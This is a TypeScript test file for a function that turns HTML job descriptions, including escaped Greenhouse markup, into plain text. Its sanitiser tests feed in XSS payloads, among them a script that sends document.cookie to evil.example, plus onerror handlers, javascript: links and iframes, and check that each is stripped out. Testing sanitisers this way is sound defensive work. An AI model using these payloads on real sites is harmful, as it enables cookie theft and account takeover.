import { describe, expect, it } from 'vitest'
import { htmlToPlainText, toPlainLine } from './html-text.ts'

describe('htmlToPlainText', () => {
  it('keeps plain text as it is, apart from whitespace', () => {
    expect(htmlToPlainText('  Line one  \n\n\n\nLine   two ')).toBe('Line one\n\nLine two')
    expect(htmlToPlainText('M&A, P&L and 2 < 3')).toBe('M&A, P&L and 2 < 3')
  })

  it('removes scripts, styles and tags and decodes entities', () => {
    expect(htmlToPlainText('<style>p{}</style>A &lt; B &quot;c&quot; &#39;d&#39; &amp; ₹<br>E')).toBe('A < B "c" \'d\' & ₹\nE')
  })

  it('keeps paragraphs, headings and list items as lines', () => {
    expect(
      htmlToPlainText(
        '<h2>About</h2><p>We build &amp; ship.</p><ul><li>Own <em>pipelines</em></li><li>Mentor</li></ul><p>Apply&nbsp;now</p>',
      ),
    ).toBe('About\n\nWe build & ship.\n\n• Own pipelines\n• Mentor\n\nApply now')
  })

  it.each([
    ['a script', '<p>Hello</p><script>document.location="https://evil.example/?c="+document.cookie</script>', 'Hello'],
    ['a script in capitals with attributes', '<SCRIPT type="text/javascript">alert(1)</SCRIPT>Text', 'Text'],
    ['a style', '<style>body{display:none}</style><p>Visible</p>', 'Visible'],
    ['an event handler', '<p onclick="steal()">Apply<img src=x onerror="alert(1)"></p>', 'Apply'],
    ['a javascript: link', '<a href="javascript:alert(1)">Apply here</a>', 'Apply here'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>Role', 'Role'],
    ['an svg script', '<svg><script>alert(1)</script></svg>ok', 'ok'],
    ['a comment', 'Before<!-- <script>alert(1)</script> -->After', 'BeforeAfter'],
    ['an unclosed script', 'Text<script>alert(1)', 'Text'],
    ['escaped markup inside HTML', '<p>&lt;script&gt;alert(1)&lt;/script&gt;Text</p>', 'Text'],
    ['markup escaped twice', '&amp;lt;p&amp;gt;Hello&amp;lt;/p&amp;gt;&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;', 'Hello'],
  ])('removes %s', (_, html, expected) => {
    const text = htmlToPlainText(html)
    expect(text).toBe(expected)
    expect(text).not.toMatch(/<[a-z/!]|alert|onerror|javascript:/i)
  })

  it('reads HTML sent escaped, as Greenhouse sends it, into paragraphs rather than literal tags', () => {
    const greenhouse =
      '&lt;div class=&quot;content-intro&quot;&gt;&lt;p&gt;&lt;strong&gt;About Razorpay&lt;/strong&gt;&lt;/p&gt;&lt;p&gt;We&amp;#39;re building India&amp;rsquo;s payments stack.&lt;/p&gt;&lt;/div&gt;' +
      '&lt;h3&gt;What you&amp;#39;ll do&lt;/h3&gt;&lt;ul&gt;&lt;li&gt;Build APIs &amp;amp; services&lt;/li&gt;&lt;li&gt;Own on-call&lt;/li&gt;&lt;/ul&gt;'
    expect(htmlToPlainText(greenhouse)).toBe(
      "About Razorpay\n\nWe're building India’s payments stack.\n\nWhat you'll do\n\n• Build APIs & services\n• Own on-call",
    )
  })
})

describe('toPlainLine', () => {
  it('gives one line without markup', () => {
    expect(toPlainLine('  Senior <b>Data</b>\n Engineer ')).toBe('Senior Data Engineer')
    expect(toPlainLine('&lt;b&gt;Analyst&lt;/b&gt;')).toBe('Analyst')
    expect(toPlainLine('R&D Engineer')).toBe('R&D Engineer')
  })
})
